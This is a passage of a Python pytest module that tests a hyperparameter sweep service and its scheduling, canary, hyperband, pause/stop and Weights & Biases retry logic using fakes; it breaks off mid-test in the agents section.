"""The sweep service on its own: real stores in a SQLite file, the real scheduler with a fake launcher (the test says
what each job does), a fake W&B side given to the service (composition: its constructor takes the W&B side), an
injected clock; no bot. Every rule of issue 23's service: trials as slots free, the canary, the same-failure halt,
hyperband, the target, Pause / Resume / Stop mirrored to W&B, W&B creation retried, the agents pool, and restarts
(the service and its store closed and reopened mid-sweep; a real kill -9 of a process running passes)."""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from adjutant.db import Database
from adjutant.db.models import JobState, SweepState, TrialState
from adjutant.jobs import ACTIVE, Job, JobStore, JobUpdate, child_environment, iso
from adjutant.scheduler import Scheduler
from adjutant.sweeps.config import parse_sweep_config
from adjutant.sweeps.service import (
    BY_HYPERBAND,
    SweepLaunch,
    SweepRefused,
    SweepService,
    agents_refusal,
    wandb_body,
)
from adjutant.sweeps.service import (
    said as said_of,
)
from adjutant.sweeps.store import SweepRow, SweepStore
from adjutant.sweeps.wandb_sweeps import RunReading, WandbSweepInfo, WandbSweeps, split_path
from tests.standins.wandb_standin import WandbStandIn
from tests.test_scheduler import FakeLauncher

T0 = dt.datetime(2026, 12, 7, 12, 0, tzinfo=dt.UTC)
ROOT = Path(__file__).resolve().parent.parent

RANDOM6 = """
method: random
metric: {name: loss, goal: minimize}
run_cap: 6
parameters:
  lr: {distribution: log_uniform_values, min: 0.0001, max: 0.1}
  layers: {values: [1, 2, 3]}
"""
GRID4 = """
method: grid
metric: {name: loss, goal: minimize}
parameters:
  a: {values: [1, 2]}
  b: {values: [x, y]}
"""

#: The experiment script of the agents sweeps' route (never run: the fake launcher runs nothing).
TRAIN = "/srv/team/train.py"
AGENTS_CONFIG = {
    "program": TRAIN,
    "command": ["${env}", "${interpreter}", "${program}", "${args_json}"],
    "method": "grid",
    "parameters": {"x": {"values": [1, 2, 3]}},
}


class FakeWandb:
    """The W&B side as the service sees it: what it was asked, and what the test says W&B holds."""

    def __init__(self) -> None:
        self.calls: list[tuple[Any, ...]] = []
        self.values: dict[str, float] = {}
        self.histories: dict[str, list[tuple[float, float]]] = {}
        #: Runs W&B has seen logging (their last step), whatever their metric.
        self.steps: dict[str, float] = {}
        self.info = WandbSweepInfo("RUNNING", 0, None)
        #: The W&B sweep's configuration its reads give (an agents sweep's program and command).
        self.config: dict[str, Any] = dict(AGENTS_CONFIG)
        #: Runs of the sweep pending or running.
        self.flying = 0
        self.fail_create = 0
        self.fail_runs = 0
        self.created: list[dict[str, Any]] = []
        #: Creations whose answer is lost (W&B made the sweep, the call timed out).
        self.lose_answer = 0

    def create(self, entity: str | None, project: str | None, config: Mapping[str, Any]) -> str:
        self.calls.append(("create", entity, project))
        if self.fail_create:
            self.fail_create -= 1
            raise RuntimeError("W&B answered 502 Bad Gateway")
        self.created.append({**dict(config), "controller": {"type": "local"}})
        if self.lose_answer:
            self.lose_answer -= 1
            raise TimeoutError("W&B did not answer in 20 s")  # after it made the sweep
        return f"wb{len(self.created):06d}"

    def find(self, entity: str | None, project: str | None, marker: str) -> str | None:
        self.calls.append(("find", marker))
        for number, config in enumerate(self.created, start=1):
            if config.get("name") == marker or marker in str(config.get("description") or ""):
                return f"wb{number:06d}"
        return None

    def set_state(self, entity: str | None, project: str | None, sweep_id: str, state: str) -> None:
        self.calls.append(("set_state", sweep_id, state))

    def runs(
        self, entity: str | None, project: str | None, run_ids: Sequence[str], metric: str | None
    ) -> dict[str, RunReading]:
        self.calls.append(("runs", tuple(sorted(run_ids))))
        if self.fail_runs:
            self.fail_runs -= 1
            raise TimeoutError("W&B timed out (read timeout=20)")
        found = {r: RunReading(r, "running", self.steps[r], None) for r in run_ids if r in self.steps}
        found.update({r: RunReading(r, "finished", 10.0, self.values[r]) for r in run_ids if r in self.values})
        return found

    def history(
        self, entity: str | None, project: str | None, run_id: str, metric: str, samples: int = 500
    ) -> list[tuple[float, float]]:
        self.calls.append(("history", run_id))
        return list(self.histories.get(run_id, []))

    def sweep(self, path: str) -> WandbSweepInfo:
        self.calls.append(("sweep", path))
        return WandbSweepInfo(self.info.state, self.info.run_count, self.info.expected, self.config)

    def in_flight(self, path: str) -> int:
        self.calls.append(("in_flight", path))
        return self.flying

    def count(self, kind: str) -> int:
        return sum(1 for call in self.calls if call[0] == kind)


@dataclass
class World:
    tmp: Path
    database: Database
    jobs: JobStore
    sweeps: SweepStore
    launcher: FakeLauncher
    scheduler: Scheduler
    wandb: FakeWandb
    service: SweepService
    clock: list[dt.datetime]
    steps: dict[str, float] = field(default_factory=dict)
    most_active: int = 0

    async def create(self, text: str = RANDOM6, *, parallel: int = 2, seed: int | None = 7, **extra: Any) -> SweepRow:
        config = parse_sweep_config(text)
        return await self.service.create(
            kind="search",
            config=config,
            wandb_sweep=None,
            route="general",
            project="mnist",
            entity="team",
            channel_id=100,
            requested_by_id=7,
            requested_by="ada",
            parallel=parallel,
            seed=seed,
            launch=SweepLaunch(script=str(self.tmp / "train.py"), gpus=0, time_limit=600.0),
            **extra,
        )

    async def step(self) -> list[str]:
        """One sweep pass, then one scheduler pass (queued jobs start: the fake launcher says running)."""
        changed = await self.service.tick()
        await self.scheduler.run_pass()
        self.most_active = max(self.most_active, len(self.jobs.where(ACTIVE)))
        self.clock[0] += dt.timedelta(seconds=1)
        return changed

    def trial_jobs(self, sweep_id: str) -> list[Job]:
        return [j for j in self.jobs.recent(1000) if j.sweep_id == sweep_id][::-1]

    def end(self, job: Job, *, value: float | None = None, exit_code: int = 0, line: str = "") -> None:
        """The job ends (as its supervisor would record it), its run having logged ``value``."""
        if value is not None:
            self.wandb.values[job.wandb_run_id] = value
        if line:
            Path(job.log_path).parent.mkdir(parents=True, exist_ok=True)
            Path(job.log_path).write_text(f"epoch 1\n{line}\n")
        state = JobState.SUCCEEDED if exit_code == 0 else JobState.FAILED
        assert self.jobs.record_news(job.id, JobUpdate(state=state, exit_code=exit_code, ended_at=iso()))

    def running(self, sweep_id: str) -> list[Job]:
        return [j for j in self.trial_jobs(sweep_id) if j.state == JobState.RUNNING]


def build(
    tmp_path: Path, *, wandb: FakeWandb | None = None, slots: int = 4, clock: list[dt.datetime] | None = None
) -> World:
    database = Database(tmp_path / "adjutant.sqlite3")
    jobs, sweeps = JobStore(database), SweepStore(database)
    launcher = FakeLauncher()
    scheduler = Scheduler(
        jobs,
        lambda backend: launcher,
        log_dir=tmp_path / "logs",
        max_concurrent=slots,
        cancel_grace_seconds=30,
        environment=lambda job: {"ADJUTANT_JOB_ID": job.id},
    )
    wandb = wandb or FakeWandb()
    clock = clock or [T0]
    world = World(tmp_path, database, jobs, sweeps, launcher, scheduler, wandb, None, clock)  # type: ignore[arg-type]
    world.service = SweepService(
        sweeps,
        scheduler,
        wandb,
        clock=lambda: clock[0],
        progress_of=lambda job: world.steps.get(job.id),
        poll_seconds=0.0,
        agent_script=tmp_path / "agent_job.py",
    )
    return world


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    built = build(tmp_path)
    yield built
    asyncio.run(built.scheduler.close())
    built.database.close()


async def run_to_end(world: World, sweep_id: str, value: Any, *, limit: int = 60) -> SweepRow:
    """Passes until the sweep ends; each running trial ends at once with ``value(params)``."""
    for _ in range(limit):
        await world.step()
        for job in world.running(sweep_id):
            world.end(job, value=value(job.params))
        row = world.sweeps.get(sweep_id)
        assert row is not None
        if row.state.ended:
            return row
    raise AssertionError(f"sweep {sweep_id} did not end")


# --- search ----------------------------------------------------------------------------------------------------------
async def test_random_with_run_cap_6_gives_exactly_6_distinct_trials_in_bounds(world: World) -> None:
    sweep = await world.create(parallel=2)
    assert sweep.state == SweepState.RUNNING and sweep.seed == 7 and sweep.run_cap == 6
    assert world.trial_jobs(sweep.id) == []  # create queues nothing
    ended = await run_to_end(world, sweep.id, lambda p: p["lr"])
    assert ended.state == SweepState.FINISHED and ended.note is not None and "6 trials" in ended.note
    trials = world.sweeps.trials(sweep.id)
    jobs = world.trial_jobs(sweep.id)
    assert len(trials) == 6 and len(jobs) == 6 and [t.number for t in trials] == [1, 2, 3, 4, 5, 6]
    assert len({json.dumps(t.params, sort_keys=True) for t in trials}) == 6
    assert all(1e-4 <= t.params["lr"] <= 0.1 and t.params["layers"] in (1, 2, 3) for t in trials)
    assert all(t.state == TrialState.DONE and t.value == t.params["lr"] for t in trials)
    assert world.most_active <= 2
    # one W&B sweep, with Adjutant as its controller; every trial's job carries its id
    assert world.wandb.count("create") == 1 and world.wandb.created[0]["controller"] == {"type": "local"}
    assert world.wandb.created[0]["method"] == "random"
    assert {j.wandb_sweep_id for j in jobs} == {"wb000001"} and {j.sweep_id for j in jobs} == {sweep.id}
    assert all(j.acked and j.project == "mnist" and j.entity == "team" and j.route == "general" for j in jobs)
    assert {t.job_id for t in trials} == {j.id for j in jobs}
    assert {t.wandb_run_id for t in trials} == {j.wandb_run_id for j in jobs}
    assert [j.params for j in jobs] == [t.params for t in trials]
    # the metric of ended trials: one request per pass, never one per trial
    assert world.wandb.count("runs") <= 6
    view = await world.service.view(sweep.id)
    assert view is not None and view.counts["done"] == 6 and view.best is not None
    assert view.best.value == min(t.value for t in trials if t.value is not None)
    # the same seed gives the same set
    again = await world.create(parallel=3)
    await run_to_end(world, again.id, lambda p: p["lr"])
    assert [t.params for t in world.sweeps.trials(again.id)] == [t.params for t in trials]


async def test_a_4_cell_grid_with_parallel_2_never_runs_more_than_2_and_ends_after_4(world: World) -> None:
    sweep = await world.create(GRID4, parallel=2)
    ended = await run_to_end(world, sweep.id, lambda p: float(p["a"]))
    trials = world.sweeps.trials(sweep.id)
    assert ended.state == SweepState.FINISHED and "grid" in (ended.note or "")
    assert [t.params for t in trials] == [
        {"a": 1, "b": "x"},
        {"a": 1, "b": "y"},
        {"a": 2, "b": "x"},
        {"a": 2, "b": "y"},
    ]
    assert world.most_active == 2


async def test_parallel_is_capped_by_what_the_scheduler_can_run(tmp_path: Path) -> None:
    world = build(tmp_path, slots=1)
    sweep = await world.create(parallel=4)
    await world.step()
    world.jobs.record_news(world.trial_jobs(sweep.id)[0].id, JobUpdate(state=JobState.RUNNING))
    await world.step()
    await world.step()
    assert len(world.trial_jobs(sweep.id)) == 1  # one slot: one trial at a time
    await world.scheduler.close()
    world.database.close()


async def test_the_first_trial_is_a_canary(world: World) -> None:
    world.scheduler.max_concurrent = 0  # the queue is busy elsewhere: the first trial waits
    sweep = await world.create(parallel=3)
    for _ in range(3):
        await world.step()
    assert len(world.trial_jobs(sweep.id)) == 1, "no second trial before the first runs"
    world.scheduler.max_concurrent = 4
    await world.scheduler.run_pass()  # it runs now
    await world.service.tick()
    assert len(world.trial_jobs(sweep.id)) == 3


async def test_a_failed_canary_pauses_the_sweep_and_resume_goes_on(world: World) -> None:
    sweep = await world.create(parallel=2)
    await world.step()
    (canary,) = world.trial_jobs(sweep.id)
    world.end(canary, exit_code=3, line="ImportError: no module named torch")
    changed = await world.step()
    row = world.sweeps.get(sweep.id)
    assert sweep.id in changed and row is not None and row.state == SweepState.PAUSED
    assert row.note is not None and "first trial failed" in row.note and "ImportError" in row.note
    assert len(world.trial_jobs(sweep.id)) == 1  # nothing more proposed while paused
    (trial,) = world.sweeps.trials(sweep.id)
    assert trial.state == TrialState.FAILED and trial.note is not None and trial.note.startswith("exit 3")
    assert ("set_state", "wb000001", "PAUSED") in world.wandb.calls  # mirrored
    await world.service.resume(sweep.id, by="ada")
    await world.step()
    assert ("set_state", "wb000001", "RUNNING") in world.wandb.calls  # mirrored by the pass
    await world.step()
    assert len(world.trial_jobs(sweep.id)) == 3
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.RUNNING


async def test_two_trials_failing_alike_pause_it(world: World) -> None:
    sweep = await world.create(parallel=3)
    await world.step()
    await world.step()
    await world.step()
    first, second, third = world.trial_jobs(sweep.id)[:3]
    world.end(first, value=0.5)
    world.end(second, exit_code=1, line="CUDA out of memory")
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.RUNNING  # one failure halts nothing
    world.end(third, exit_code=1, line="CUDA out of memory")
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.PAUSED
    assert row.note is not None and "trials 2 and 3 failed alike" in row.note and "CUDA out of memory" in row.note
    queued = [j for j in world.trial_jobs(sweep.id) if j.state == JobState.QUEUED]
    assert all(world.jobs.query("SELECT held FROM jobs WHERE id=?", (j.id,))[0][0] == 1 for j in queued)


async def test_retries_are_the_schedulers(tmp_path: Path) -> None:
    """A failure the scheduler runs again (ADJUTANT_RETRY_ON_EXIT) is not the trial's end."""
    world = build(tmp_path)
    world.scheduler.retries = 1
    world.scheduler.retry_on_exit = (75,)
    sweep = await world.create(parallel=1)
    await world.step()
    (job,) = world.trial_jobs(sweep.id)
    world.end(job, exit_code=75)
    await world.service.tick()
    (trial,) = world.sweeps.trials(sweep.id)
    assert trial.state == TrialState.QUEUED  # not failed: the scheduler queues its next attempt
    await world.scheduler.run_pass()
    again = world.jobs.get(job.id)
    assert again is not None and again.attempt == 2
    await world.scheduler.close()
    world.database.close()


HYPERBAND = """
method: random
metric: {name: loss, goal: minimize}
run_cap: 4
parameters:
  x: {min: 0.0, max: 1.0}
early_terminate: {type: hyperband, min_iter: 3, eta: 3}
"""


async def test_hyperband_stops_a_trial_with_a_bad_metric_at_the_first_rung(world: World) -> None:
    sweep = await world.create(HYPERBAND, parallel=3)
    for _ in range(3):
        await world.step()
    jobs = world.trial_jobs(sweep.id)
    assert len(jobs) == 3
    good, bad, also_good = jobs
    for job, values in ((good, [0.5, 0.3, 0.2, 0.1]), (bad, [5.0, 4.9, 4.8, 4.7]), (also_good, [0.6, 0.4, 0.3, 0.2])):
        world.wandb.histories[job.wandb_run_id] = [(float(step), v) for step, v in enumerate(values)]
    world.steps = {good.id: 1.0, bad.id: 1.0, also_good.id: 1.0}
    await world.step()
    assert world.wandb.count("history") == 0  # below the first rung (step 3): nothing read
    world.steps = {good.id: 3.0, bad.id: 3.0, also_good.id: 3.0}
    await world.step()
    assert world.wandb.count("history") == 3  # once each at the rung
    assert world.launcher.cancelled == [bad.id]
    stopped = world.jobs.get(bad.id)
    assert stopped is not None and stopped.cancelled_by == BY_HYPERBAND
    await world.step()
    assert world.wandb.count("history") == 3  # not again before the next rung (step 9)
    world.jobs.record_news(bad.id, JobUpdate(state=JobState.CANCELLED, ended_at=iso()))
    await world.step()
    trial = next(t for t in world.sweeps.trials(sweep.id) if t.job_id == bad.id)
    assert trial.state == TrialState.STOPPED and trial.rung == 0  # the rung's index: the first
    assert trial.note == "stopped early (hyperband, rung 0)"
    view = await world.service.view(sweep.id)
    assert view is not None and view.counts["stopped"] == 1


async def test_hyperband_reads_the_steps_a_watcher_has_not_seen_paced(world: World) -> None:
    """Without the watcher's steps: one W&B request for all running trials' steps, at most every step_seconds; past
    the rung, their histories once each, and the bad one is stopped."""
    now = [1000.0]
    world.service.monotonic = lambda: now[0]
    sweep = await world.create(HYPERBAND, parallel=3)
    for _ in range(3):
        await world.step()
    good, bad, also_good = world.trial_jobs(sweep.id)
    for job, values in ((good, [0.5, 0.3, 0.2, 0.1]), (bad, [5.0, 4.9, 4.8, 4.7]), (also_good, [0.6, 0.4, 0.3, 0.2])):
        world.wandb.histories[job.wandb_run_id] = [(float(step), v) for step, v in enumerate(values)]
        world.wandb.steps[job.wandb_run_id] = 1.0
    reads = world.wandb.count("runs")
    now[0] += 2.0
    for _ in range(3):
        await world.step()
    assert world.wandb.count("runs") == reads + 1 and world.wandb.count("history") == 0  # once per step_seconds
    for job in (good, bad, also_good):
        world.wandb.steps[job.wandb_run_id] = 3.0
    await world.step()
    assert world.wandb.count("history") == 0  # not asked again yet: it cannot know
    now[0] += 2.0
    await world.step()
    assert world.wandb.count("runs") == reads + 2
    assert world.wandb.count("history") == 3 and world.launcher.cancelled == [bad.id]


TARGET = """
method: grid
metric: {name: loss, goal: minimize, target: 0.1}
parameters:
  x: {values: [1, 2, 3, 4, 5, 6]}
"""


async def test_the_target_reached_by_trial_3_queues_nothing_more(tmp_path: Path) -> None:
    world = build(tmp_path, slots=2)
    sweep = await world.create(TARGET, parallel=3)  # 3 asked, 2 run at once: one waits in the queue
    for _ in range(3):
        await world.step()
    first, second = world.trial_jobs(sweep.id)[:2]
    world.end(first, value=0.9)
    await world.step()
    world.end(second, value=0.8)
    await world.step()
    jobs = world.trial_jobs(sweep.id)
    third = jobs[2]
    world.end(third, value=0.05)
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.target_trial == 3 and "target reached by trial 3" in (row.note or "")
    count = len(world.trial_jobs(sweep.id))
    for job in world.running(sweep.id):
        world.end(job, value=0.5)
    for _ in range(3):
        await world.step()
    assert len(world.trial_jobs(sweep.id)) == count  # nothing more
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.FINISHED
    states = {t.number: t.state for t in world.sweeps.trials(sweep.id)}
    assert states[3] == TrialState.DONE and TrialState.QUEUED not in states.values()
    assert ("set_state", "wb000001", "FINISHED") in world.wandb.calls
    await world.scheduler.close()
    world.database.close()


# --- Pause / Resume / Stop -------------------------------------------------------------------------------------------
async def test_pause_resume_stop_and_their_refusals(world: World) -> None:
    sweep = await world.create(parallel=2)
    for _ in range(3):
        await world.step()
    with pytest.raises(SweepRefused, match="only a paused sweep"):
        await world.service.resume(sweep.id)
    paused = await world.service.pause(sweep.id, by="bob")
    assert paused.state == SweepState.PAUSED and paused.note == "paused by bob"
    assert paused.wandb_state == "RUNNING" and world.wandb.count("set_state") == 0  # the next pass mirrors it
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.wandb_state == "PAUSED" and ("set_state", "wb000001", "PAUSED") in world.wandb.calls
    with pytest.raises(SweepRefused, match="only a running sweep"):
        await world.service.pause(sweep.id)
    running = world.running(sweep.id)
    for job in running:
        world.end(job, value=0.5)
    for _ in range(3):
        await world.step()
    assert len(world.trial_jobs(sweep.id)) == 2  # paused: running ones finished, nothing new
    resumed = await world.service.resume(sweep.id)
    assert resumed.state == SweepState.RUNNING and resumed.wandb_state == "PAUSED"
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.wandb_state == "RUNNING"
    await world.step()
    assert len(world.trial_jobs(sweep.id)) == 4
    running = world.running(sweep.id)
    assert len(running) == 2
    stopping = await world.service.stop(sweep.id, by="bob")
    assert stopping.state == SweepState.STOPPING and world.launcher.cancelled == []  # recorded; the pass cancels
    await world.service.tick()
    assert sorted(world.launcher.cancelled) == sorted(j.id for j in running)
    for job in world.trial_jobs(sweep.id):
        if job.state == JobState.CANCELLING:
            world.jobs.record_news(job.id, JobUpdate(state=JobState.CANCELLED, ended_at=iso(), started_at=iso()))
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.STOPPED and row.ended_at is not None
    assert ("set_state", "wb000001", "CANCELED") in world.wandb.calls
    with pytest.raises(SweepRefused, match="stopped already"):
        await world.service.stop(sweep.id)
    with pytest.raises(SweepRefused, match="No sweep"):
        await world.service.pause("sweep-nothere")
    views = await world.service.ended_untold()
    assert [v.sweep.id for v in views] == [sweep.id]
    assert await world.service.mark_told(sweep.id) and not await world.service.mark_told(sweep.id)
    assert await world.service.ended_untold() == []
    assert [r.id for r in await world.service.list(["general"])] == [sweep.id]


class BlockingWandb(FakeWandb):
    """W&B hanging on a state change until the test lets it go."""

    def __init__(self) -> None:
        super().__init__()
        self.entered = threading.Event()
        self.release = threading.Event()

    def set_state(self, entity: str | None, project: str | None, sweep_id: str, state: str) -> None:
        self.entered.set()
        assert self.release.wait(30), "never released"
        super().set_state(entity, project, sweep_id, state)


async def test_pause_and_stop_return_at_once_while_w_and_b_hangs_in_a_pass(tmp_path: Path) -> None:
    """A pass stuck in W&B (holding the pass's lock and the W&B lock) delays neither Pause nor Stop: each is one
    compare-and-set; the pass after the hang mirrors the state and cancels the stopped sweep's trials."""
    wandb = BlockingWandb()
    world = build(tmp_path, wandb=wandb)
    try:
        one = await world.create(GRID4, parallel=2)
        two = await world.create(GRID4, parallel=2)
        for _ in range(2):
            await world.step()
        await world.service.pause(one.id, by="bob")
        stuck = asyncio.create_task(world.service.tick())  # mirrors one's pause: hangs in W&B
        assert await asyncio.to_thread(wandb.entered.wait, 10)
        paused = await asyncio.wait_for(world.service.pause(two.id, by="bob"), 2)
        assert paused.state == SweepState.PAUSED
        stopping = await asyncio.wait_for(world.service.stop(one.id, by="bob"), 2)
        assert stopping.state == SweepState.STOPPING and not stuck.done()
        assert world.launcher.cancelled == []  # nothing cancelled by the door itself
        wandb.release.set()
        await asyncio.wait_for(stuck, 10)
        await world.service.tick()
        active = [j.id for j in world.trial_jobs(one.id) if j.state == JobState.CANCELLING]
        assert active and sorted(world.launcher.cancelled) == sorted(active)
        assert not any(j.state == JobState.CANCELLING for j in world.trial_jobs(two.id))
        assert ("set_state", "wb000002", "PAUSED") in wandb.calls
    finally:
        wandb.release.set()
        await world.scheduler.close()
        world.database.close()


async def test_stop_drops_queued_trials(tmp_path: Path) -> None:
    world = build(tmp_path, slots=1)
    sweep = await world.create(GRID4, parallel=1)
    await world.step()
    await world.service.stop(sweep.id)
    await world.step()
    # the running canary is asked to stop; once its end is recorded the sweep is stopped
    (job,) = world.trial_jobs(sweep.id)
    world.jobs.record_news(job.id, JobUpdate(state=JobState.CANCELLED, ended_at=iso()))
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.STOPPED
    assert len(world.trial_jobs(sweep.id)) == 1
    await world.scheduler.close()
    world.database.close()


async def test_the_w_and_b_sweep_is_created_again_after_a_failure_and_the_note_says_why(world: World) -> None:
    world.wandb.fail_create = 2
    sweep = await world.create()
    assert sweep.id in await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.wandb_sweep_id is None and row.note is not None
    assert row.note == "the W&B sweep could not be created yet (W&B had a server error (HTTP 502)); retrying"
    assert world.trial_jobs(sweep.id) == []  # no trial without its W&B sweep
    await world.step()
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.wandb_sweep_id == "wb000001" and row.note is None
    assert world.wandb.count("create") == 3 and len(world.trial_jobs(sweep.id)) == 1


async def test_a_w_and_b_sweep_whose_creation_timed_out_is_found_not_made_again(world: World) -> None:
    """W&B made the sweep but the answer was lost: the next pass finds it by the Adjutant id it carries (its name)."""
    world.wandb.lose_answer = 1
    sweep = await world.create()
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.wandb_sweep_id is None and row.create_started_at is not None
    assert world.wandb.created[0]["name"] == sweep.id
    for _ in range(4):
        await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.wandb_sweep_id == "wb000001" and row.note is None
    assert world.wandb.count("create") == 1 and world.wandb.count("find") == 1 and len(world.wandb.created) == 1
    assert len(world.trial_jobs(sweep.id)) >= 1


def test_wandb_body_names_the_sweep_or_marks_its_description() -> None:
    assert wandb_body({"method": "grid"}, "sweep-abc234") == {"method": "grid", "name": "sweep-abc234"}
    assert wandb_body({"name": "lr scan"}, "sweep-abc234") == {
        "name": "lr scan",
        "description": "Adjutant sweep-abc234",
    }
    assert wandb_body({"name": "lr scan", "description": "wide"}, "sweep-abc234")["description"] == (
        "wide (Adjutant sweep-abc234)"
    )


@pytest.mark.parametrize("named", [False, True])
async def test_a_creation_recorded_as_started_but_not_as_done_finds_the_stand_ins_sweep(
    wandb_standin: WandbStandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, named: bool
) -> None:
    """Against the stand-in: the W&B sweep is created, then its id is lost (the bot killed between the creation and
    recording it); a restarted service looks the project's sweeps up and adopts it: W&B holds one sweep."""
    monkeypatch.setenv("WANDB_PROJECT", "elsewhere")
    database = Database(tmp_path / "adjutant.sqlite3")
    text = RANDOM6 + ("name: my scan\n" if named else "")

    def service() -> tuple[SweepService, Scheduler]:
        scheduler = Scheduler(
            JobStore(database), lambda backend: FakeLauncher(), log_dir=tmp_path / "logs", max_concurrent=2,
            cancel_grace_seconds=30, environment=lambda job: {},
        )  # fmt: skip
        return SweepService(SweepStore(database), scheduler, WandbSweeps(timeout=10), clock=lambda: T0), scheduler

    first, scheduler = service()
    try:
        sweep = await first.create(
            kind="search", config=parse_sweep_config(text), wandb_sweep=None, route="general", project="proj",
            entity="team", channel_id=1, requested_by_id=7, requested_by="ada", parallel=1, seed=3,
            launch=SweepLaunch(script=str(tmp_path / "train.py")),
        )  # fmt: skip
        await first.tick()
        made = SweepStore(database).get(sweep.id)
        assert made is not None and made.wandb_sweep_id is not None and made.create_started_at is not None
        assert wandb_standin.counts["UpsertSweep"] == 1
    finally:
        await scheduler.close()
    # the id never recorded, the jobs of the first process gone with it
    with database.transaction() as db:
        db.execute("UPDATE sweeps SET wandb_sweep_id=NULL, wandb_state=NULL WHERE id=?", (sweep.id,))
        db.execute("DELETE FROM sweep_trials WHERE sweep_id=?", (sweep.id,))
        db.execute("DELETE FROM jobs WHERE sweep_id=?", (sweep.id,))
    second, scheduler = service()
    try:
        await second.tick()
    finally:
        await scheduler.close()
    row = SweepStore(database).get(sweep.id)
    assert row is not None and row.wandb_sweep_id == made.wandb_sweep_id
    assert wandb_standin.counts["UpsertSweep"] == 1 and len(wandb_standin.sweeps) == 1
    found = wandb_standin.sweep(made.wandb_sweep_id or "")
    assert (found.config.get("name"), found.config.get("description")) == (
        ("my scan", f"Adjutant {sweep.id}") if named else (sweep.id, None)
    )
    database.close()


def test_said_gives_a_sentence_never_the_errors_text() -> None:
    class HTTPError(Exception):
        def __init__(self, text: str, status: int) -> None:
            super().__init__(text)
            self.response = type("Response", (), {"status_code": status})()

    secret = "token=s3cr3t at https://internal.example/graphql <html>"
    cases = {
        TimeoutError(secret): "W&B did not answer in time",
        HTTPError(secret, 401): "W&B refused the bot's key (HTTP 401)",
        HTTPError(secret, 503): "W&B had a server error (HTTP 503)",
        RuntimeError(f"{secret} 502 Bad Gateway"): "W&B had a server error (HTTP 502)",
        ValueError("Could not find sweep team/proj/abc"): "W&B does not know it",
        ConnectionRefusedError(secret): "W&B could not be reached",
        RuntimeError(secret): "W&B answered with an error",
    }
    for error, sentence in cases.items():
        assert said_of(error) == sentence, error


async def test_an_ended_trial_whose_value_is_unread_keeps_its_slot(world: World) -> None:
    """While W&B cannot be read, trials that ended without their value read still count against ``--parallel``:
    no more trials are proposed than the slots allow."""
    sweep = await world.create(RANDOM6, parallel=2)
    for _ in range(3):
        await world.step()
    assert len(world.trial_jobs(sweep.id)) == 2
    world.wandb.fail_runs = 1000
    for job in world.running(sweep.id):
        world.end(job, value=0.5)
    for _ in range(4):
        await world.step()
    assert len(world.trial_jobs(sweep.id)) == 2  # both ended, neither value read: no proposal
    world.wandb.fail_runs = 0
    for _ in range(3):
        await world.step()
    assert len(world.trial_jobs(sweep.id)) == 4 and world.sweeps.trials(sweep.id)[0].value == 0.5


async def test_a_pass_validates_a_configuration_once_and_reads_trials_without_history(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The globals of the module the service was built from (loading the extension elsewhere in the run re-imports
    # adjutant's modules: sys.modules may hold a newer copy than the one this service's code reads).
    service_globals = type(world.service).tick.__globals__
    validated: list[Mapping[str, Any]] = []
    real = service_globals["validate_sweep_config"]

    def validate(raw: Mapping[str, Any]) -> Any:
        validated.append(raw)
        return real(raw)

    reads: list[bool] = []
    trials = world.sweeps.trials

    def read(sweep_id: str, *, history: bool = False) -> Any:
        reads.append(history)
        return trials(sweep_id, history=history)

    monkeypatch.setitem(service_globals, "validate_sweep_config", validate)
    monkeypatch.setattr(world.sweeps, "trials", read)
    sweep = await world.create(GRID4, parallel=2)
    for _ in range(5):
        await world.step()
    assert len(validated) == 1 and len(world.trial_jobs(sweep.id)) == 2
    assert not any(reads)  # no hyperband: the history column never read
    reads.clear()
    await world.service.tick()  # a pass with nothing to do: its trials read once
    assert len(reads) <= 2, reads


async def test_a_note_shows_no_raw_error_text(world: World) -> None:
    world.wandb.fail_runs = 1
    sweep = await world.create(GRID4, parallel=1)
    await world.step()
    (job,) = world.trial_jobs(sweep.id)
    world.end(job, value=0.25)
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.note == "W&B could not be read (W&B did not answer in time); retrying"


async def test_w_and_b_failing_is_asked_again_later_and_later(world: World) -> None:
    """After a failure a sweep's W&B calls wait step_seconds (2 s), doubling with each failure, at most poll_seconds."""
    now = [0.0]
    world.service.monotonic = lambda: now[0]
    world.service.poll_seconds = 5.0
    world.wandb.fail_create = 3
    sweep = await world.create()
    tried = []
    for _ in range(14):
        await world.step()
        tried.append(world.wandb.count("create"))
        now[0] += 1.0
    # tries at 0 s, then 2 s later, 4 s later, then 5 s later (the cap): created on the fourth
    assert tried == [1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 3, 4, 4, 4], tried
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.wandb_sweep_id is not None


async def test_a_value_w_and_b_could_not_give_is_read_next_pass(world: World) -> None:
    sweep = await world.create(GRID4, parallel=1)
    await world.step()
    (job,) = world.trial_jobs(sweep.id)
    world.wandb.fail_runs = 1
    world.end(job, value=0.25)
    await world.step()
    (trial,) = world.sweeps.trials(sweep.id)[:1]
    assert trial.state == TrialState.DONE and not trial.value_read
    await world.step()
    trial = world.sweeps.trials(sweep.id)[0]
    assert trial.value == 0.25 and trial.value_read


# --- agents ----------------------------------------------------------------------------------------------------------
async def test_agents_keep_n_jobs_until_w_and_bs_controller_has_nothing_more(world: World) -> None:
    world.wandb.info = WandbSweepInfo("RUNNING", 0, 3)
    sweep = await world.service.create(
